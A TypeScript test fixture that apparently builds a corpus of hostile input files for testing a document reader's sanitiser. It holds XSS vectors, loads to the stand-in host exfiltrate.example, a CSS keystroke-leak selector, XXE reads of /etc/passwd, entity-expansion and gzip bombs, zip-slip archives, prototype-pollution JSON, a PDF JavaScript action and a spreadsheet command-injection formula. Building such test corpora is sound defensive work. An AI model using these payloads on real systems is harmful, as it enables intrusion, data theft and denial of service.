import { gzipSync } from 'node:zlib';
import { zipOf } from '../../src/read/invent-zip.ts';

/** What each of them would do if it could: mark the page that shows it, or fetch from a place that would see it. */
const MARK = "window.__hostile='ran'";
const AWAY = 'https://exfiltrate.example/seen';
/** Something to read, so that it becomes a report that the page shows. */
const WORDS = '青禾小学家长说，食堂的汤有异味。校方表示，正在检测。';
const MEGABYTE = 1 << 20;

const page = (body: string, head = ''): string =>
  `<!doctype html><html><head><meta charset="utf-8"><title>食堂</title>${head}</head><body><article><h1>食堂停业</h1><p>${WORDS}</p>${body}<p>${WORDS}</p></article></body></html>`;

/** Markup that would run a script or ask somebody, by what it does. */
const MARKUP: Readonly<Record<string, string>> = {
  'a script': `<script>${MARK}</script>`,
  'a script from elsewhere': `<script src="${AWAY}.js"></script>`,
  'an image that fails': `<img src=x onerror="${MARK}">`,
  'an image from elsewhere': `<img src="${AWAY}.png" srcset="${AWAY}.png 2x">`,
  'a drawing that loads': `<svg onload="${MARK}"><text>食堂</text></svg>`,
  'a drawing with a script': `<svg><script>${MARK}</script><image href="${AWAY}.svg"/></svg>`,
  'a drawing that holds a page': `<svg><foreignObject><body onload="${MARK}"></body></foreignObject></svg>`,
  'a drawing whose link changes': `<svg><a><animate attributeName="href" values="javascript:${MARK}"/><text>点</text></a></svg>`,
  'a frame': `<iframe src="${AWAY}"></iframe>`,
  'a frame with a page in it': `<iframe srcdoc="<script>parent.${MARK}</script>"></iframe>`,
  'a frame of a script': `<iframe src="javascript:${MARK}"></iframe>`,
  'an object and what is embedded': `<object data="${AWAY}"></object><embed src="${AWAY}">`,
  'a film and its picture': `<video src="${AWAY}.mp4" poster="${AWAY}.png" autoplay></video><audio src="${AWAY}.mp3"></audio>`,
  'a link to a script': `<p><a href="javascript:${MARK}">${WORDS}</a></p>`,
  'a link to a script, in disguise': `<p><a href=" &#106;ava&#10;script:${MARK}">${WORDS}</a></p>`,
  'links to data, files and blobs': `<p><a href="data:text/html,<script>${MARK}</script>">一</a><a href="file:///etc/passwd">二</a><a href="blob:x">三</a><a href="vbscript:x">四</a></p>`,
  'a link to a host of look-alike letters': `<p><a href="https://раураl.example/login">https://paypal.example</a></p>`,
  'a form': `<form action="javascript:${MARK}"><input autofocus onfocus="${MARK}"><button formaction="${AWAY}">送</button></form>`,
  'what opens by itself': `<details open ontoggle="${MARK}"><summary>食堂</summary></details>`,
  'a style that asks': `<style>@import url(${AWAY}.css);p{background:url(${AWAY}.png)}</style>`,
  'a style that reads what is typed': `<style>input[value^="1"]{background:url(${AWAY}/1)}</style><input value="138">`,
  'a style in an attribute': `<p style="background:url(${AWAY}.png);position:fixed;inset:0">${WORDS}</p>`,
  'a font from elsewhere': `<style>@font-face{font-family:x;src:url(${AWAY}.woff2)}p{font-family:x}</style>`,
  formulas: `<math><maction actiontype="statusline" xlink:href="javascript:${MARK}">x</maction></math>`,
  'markup that changes when it is read again': `<noscript><p title="</noscript><img src=x onerror=${MARK}>">${WORDS}</p></noscript>`,
  'a comment that ends early': `<!--><img src=x onerror="${MARK}">-->`,
  'a template': `<template><script>${MARK}</script></template>`,
  'an attribute of two megabytes': `<p data-x="${'a'.repeat(2 * MEGABYTE)}">${WORDS}</p>`,
  'ten thousand attributes': `<p ${Array.from({ length: 10_000 }, (_, at) => `a${at}=1`).join(' ')}>${WORDS}</p>`,
  'two hundred thousand tags, one in the other': '<b>'.repeat(200_000),
};

const HEADS: Readonly<Record<string, string>> = {
  'a page that leads away': `<meta http-equiv="refresh" content="0;url=${AWAY}">`,
  'a page with a base elsewhere': `<base href="${AWAY}/">`,
  'a page that loads ahead': `<link rel="preload" as="script" href="${AWAY}.js"><link rel="dns-prefetch" href="//exfiltrate.example"><link rel="icon" href="${AWAY}.ico">`,
  'a title that ends the script of the page': `</title><script>${MARK}</script><title></script><script>${MARK}</script>`,
};

/** Whole files, by name: what is in them is not what they say, or much more than it seems. */
const FILES: Readonly<Record<string, string | Uint8Array>> = {
  'title-with-separators.html': page('').replace(
    '<title>食堂',
    '<title>食堂\u2028</title><meta name="author" content="\u202egnp.exe"><title>',
  ),
  'utf-7.html': `<meta charset="utf-7">+ADw-script+AD4-${MARK}+ADw-/script+AD4- ${WORDS}`,
  'markdown.md': `# 食堂\n\n${WORDS}\n\n[点](javascript:${MARK}) <img src=x onerror="${MARK}"> ![](${AWAY}.png)\n`,
  'rows.jsonl': `${JSON.stringify({ id: '<img src=x>', title: `<script>${MARK}</script>`, html: page(`<script>${MARK}</script>`) })}\n`,
  'proto.jsonl': `{"id":"p","text":"${WORDS}","__proto__":{"polluted":true},"constructor":{"prototype":{"polluted":true}}}\n`,
  'deep.json': '['.repeat(200_000),
  'laughs.xml': `<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "汤"><!ENTITY b "${'&a;'.repeat(100)}"><!ENTITY c "${'&b;'.repeat(100)}"><!ENTITY d "${'&c;'.repeat(100)}">]><rss><channel><item><title>&d;</title></item></channel></rss>`,
  'outer.xml': `<?xml version="1.0"?><!DOCTYPE l [<!ENTITY x SYSTEM "file:///etc/passwd">]><html><body><p>${WORDS}&x;</p></body></html>`,
  'saved.mhtml': `From: <Saved by Blink>\r\nContent-Type: multipart/related; boundary="b"\r\n\r\n--b\r\nContent-Type: text/html\r\nContent-Location: ${AWAY}\r\n\r\n${page(`<script>${MARK}</script>`)}\r\n--b--\r\n`,
  'mail.eml': `From: "<img src=x onerror=${MARK}>" <a@b.example>\r\nTo: c@d.example\r\nDate: Mon, 16 Nov 2026 10:00:00 +0800\r\nMessage-ID: <1@b.example>\r\nContent-Type: text/html; charset=utf-8\r\n\r\n${page(`<img src="${AWAY}.png">`)}`,
  'slip.docx': zipOf({
    '../victim.txt': 'overwritten',
    '/victim.txt': 'overwritten',
    '[Content_Types].xml': '<Types/>',
    'word/document.xml': `<w:document><w:body><w:p><w:r><w:t>${WORDS}</w:t></w:r></w:p></w:body></w:document>`,
  }),
  'entities.docx': zipOf({
    '[Content_Types].xml': '<Types/>',
    'word/document.xml': `<?xml version="1.0"?><!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]><w:document><w:body><w:p><w:r><w:t>${WORDS}&x;</w:t></w:r></w:p></w:body></w:document>`,
  }),
  'claims-more.docx': zipOf({ 'word/document.xml': 'x' }, 0xffff_fff0),
  'slip.wacz': zipOf({
    '../victim.txt': 'overwritten',
    'datapackage.json': '{}',
    'archive/../../victim.warc': 'x',
  }),
  'zeros.html.gz': gzipSync(Buffer.alloc(300 * MEGABYTE)),
  'gzip-in-gzip.gz': gzipSync(gzipSync(page(''))),
  'lying.warc': `WARC/1.1\r\nWARC-Type: response\r\nWARC-Target-URI: ${AWAY}\r\nContent-Length: 99999999999\r\n\r\nHTTP/1.1 200 OK\r\n\r\n${page('')}`,
  'headers.warc': `WARC/1.1\r\n${`X: ${'y'.repeat(1000)}\r\n`.repeat(4000)}\r\n`,
  'acting.pdf': `%PDF-1.7\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(${MARK})>>/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[2 0 R]/Count 1>>endobj\nxref\n0 1\ntrailer<</Root 1 0 R>>startxref 9 %%EOF`,
  'chat.txt': `[31/12/2022, 11:40:26] <img src=x onerror=${MARK}>: ${WORDS}\n[31/12/2022, 11:41:26] =cmd|' /C calc'!A0: =HYPERLINK("${AWAY}","x")\n[31/12/2022, 11:42:26] Ann: ok\n`,
  'page<img src=x onerror=1>.html': page(''),
  'page\u001b[31m red \n line.html': page(''),
  'page\u202elmth.exe': page(''),
  '.htaccess': 'Redirect / https://exfiltrate.example',
  'index.html': page(`<script>${MARK}</script>`),
  'manifest.json': JSON.stringify({ format: 'hearsay-dossier', files: [{ path: '../victim.txt' }] }),
};

/** By name of the file, what it holds. */
export const HOSTILE_FILES: ReadonlyMap<string, string | Uint8Array> = new Map<string, string | Uint8Array>([
  ...Object.entries(MARKUP).map(([what, body]) => [`${what}.html`, page(body)] as const),
  ...Object.entries(HEADS).map(([what, head]) => [`${what}.html`, page('', head)] as const),
  ...Object.entries(FILES),
]);
